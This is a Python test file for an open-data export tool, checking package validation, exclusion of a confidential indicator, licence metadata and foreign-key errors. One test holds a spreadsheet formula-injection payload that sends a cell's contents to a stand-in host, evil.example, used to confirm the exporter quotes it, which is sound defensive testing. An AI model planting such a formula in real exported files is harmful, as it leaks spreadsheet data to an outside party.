"""The open-data package: it validates, holds the exported figures, never a confidential one.

Validation is Frictionless's own (`frictionless.validate`): the descriptor against the
Data Package profile, each CSV against its Table Schema, primary and foreign keys, the
files' sizes and SHA-256. The figures are those of `tests/dashboard_values.py` plus the
confidential SOC-08 (bank accounts: 500 of 1,000 residents aged 15+ in 2025Q3), which
must not leave.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import frictionless
import pytest

from dxplan.domain.period import Period
from dxplan.domain.value import MeasureValue
from dxplan.opendata.package import DESCRIPTOR, Licence, build_package
from dxplan.opendata.schema import RESOURCES
from dxplan.store import values as value_store
from dxplan.workspace import Workspace
from tests.dashboard_values import record_dashboard_values

SECRET = "SOC-08"
SECRET_MEASURES = ("residents_15plus", "residents_15plus_with_account")


def record_figures(workspace: Workspace) -> None:
    """The dashboard's figures and a quarter of the confidential bank-accounts data set."""
    record_dashboard_values(workspace)
    q3 = Period.parse("2025Q3")
    secret = [
        MeasureValue("residents_15plus_with_account", "92", q3, 500.0, "reported"),
        MeasureValue("residents_15plus", "92", q3, 1000.0, "reported"),
    ]
    with workspace.engine.begin() as conn:
        value_store.record(conn, secret, actor="test")


def problems(path: Path) -> list[str]:
    """Every error Frictionless finds in the package at `path` (empty: it validates)."""
    report = frictionless.validate(str(path))
    found = [f"{e.type}: {e.message}" for e in report.errors]
    for task in report.tasks:
        found += [f"{task.name}: {e.type}: {e.message}" for e in task.errors]
    return found


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def export(cli: Callable[..., Any], url: str, monkeypatch: pytest.MonkeyPatch, *args: str) -> Any:
    monkeypatch.setenv("DXPLAN_DATABASE_URL", url)
    return cli(*args)


def test_the_exported_package_validates_and_holds_the_exported_figures(
    workspace: Workspace,
    cli: Callable[..., Any],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    record_figures(workspace)
    folder = tmp_path / "open-data"
    result = export(
        cli, workspace.settings.database, monkeypatch, "opendata", "export", str(folder)
    )
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in folder.iterdir()) == sorted(
        [DESCRIPTOR, *(r.path for r in RESOURCES.values())]
    )
    assert problems(folder / DESCRIPTOR) == []

    # the values are `dxplan indicators export`'s rows, less the confidential indicator
    exported = rows(cli("indicators", "export").stdout)
    assert any(r["indicator"] == SECRET for r in exported)  # the export has it...
    published = rows((folder / "values.csv").read_text("utf-8"))
    assert published == [r for r in exported if r["indicator"] != SECRET]  # ...not this
    # a figure checked by hand: 85 of 100 dossiers online in January 2025
    january = {(r["indicator"], r["unit_code"], r["period"]): r for r in published}
    assert january[("GOV-03", "92", "2025-01")]["value"] == "85"
    assert january[("SOC-02", "31135", "2025-10")]["value"] == "70"  # 700 of 1,000 households

    # the confidential indicator and its measures appear nowhere in the package
    for file in folder.iterdir():
        text = file.read_text("utf-8")
        for secret in (SECRET, *SECRET_MEASURES):
            assert secret not in text, (file.name, secret)


def test_the_package_carries_licence_sources_and_metadata(workspace: Workspace) -> None:
    plan, organisation = workspace.plan(), workspace.organisation()
    assert plan is not None and organisation is not None
    with workspace.engine.connect() as conn:
        package = build_package(
            conn,
            plan,
            organisation,
            Licence("ODC-BY-1.0", "Open Data Commons"),
            workspace.settings.now(plan.calendar.zone),
        )
    descriptor = json.loads(package.datapackage)
    assert descriptor["licenses"] == [{"name": "ODC-BY-1.0", "title": "Open Data Commons"}]
    assert descriptor["sources"][0]["title"] == plan.source.vi  # type: ignore[union-attr]
    indicators = {r["code"]: r for r in rows(package.files["indicators.csv"].decode())}
    public = [i.code for i in plan.indicators if not i.confidential]
    assert list(indicators) == public
    gov01 = indicators["GOV-01"]
    assert gov01["numerator"] == "procedures_online"
    assert gov01["denominator"] == "procedures_in_force"
    assert gov01["source"] == "catalog"
    assert gov01["unit_of_measure"] == "percent"
    assert gov01["definition_vi"] == plan.indicator("GOV-01").definition.vi  # type: ignore[union-attr]
    assert gov01["methodology_en"] == plan.indicator("GOV-01").methodology.en  # type: ignore[union-attr]
    targets = {r["indicator"]: r for r in rows(package.files["targets.csv"].decode())}
    assert targets["GOV-01"] == {
        "indicator": "GOV-01",
        "op": ">=",
        "value": "100",
        "deadline": "2025-12-31",
        "baseline_value": "",
        "baseline_period": "",
    }
    units = rows(package.files["units.csv"].decode())
    assert len(units) == len(organisation)
    assert units[0]["code"] == organisation.root.code and units[0]["parent"] == ""


def test_text_that_a_spreadsheet_would_run_is_quoted(workspace: Workspace) -> None:
    plan, organisation = workspace.plan(), workspace.organisation()
    assert plan is not None and organisation is not None
    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    first = plan.indicators[0]
    names = first.names.model_copy(update={"en": attack})
    tampered = plan.model_copy(
        update={"indicators": [first.model_copy(update={"names": names}), *plan.indicators[1:]]}
    )
    with workspace.engine.connect() as conn:
        package = build_package(
            conn,
            tampered,
            organisation,
            Licence("CC-BY-4.0", "CC BY"),
            workspace.settings.now(plan.calendar.zone),
        )
    found = rows(package.files["indicators.csv"].decode())[0]
    assert found["name_en"] == "'" + attack


def test_frictionless_catches_a_figure_of_an_unknown_unit(
    workspace: Workspace, cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """The check above means something: a row naming no unit of the package fails it."""
    record_figures(workspace)
    folder = tmp_path / "open-data"
    assert (
        export(
            cli, workspace.settings.database, monkeypatch, "opendata", "export", str(folder)
        ).exit_code
        == 0
    )
    descriptor = json.loads((folder / DESCRIPTOR).read_text("utf-8"))
    for resource in descriptor["resources"]:  # the edit below changes size and hash
        resource.pop("bytes"), resource.pop("hash")
    (folder / DESCRIPTOR).write_text(json.dumps(descriptor), "utf-8")
    with (folder / "values.csv").open("a", encoding="utf-8") as handle:
        handle.write("GOV-03,99999,2025-01,1,2,50\n")
    assert any("foreign-key" in p for p in problems(folder / DESCRIPTOR))
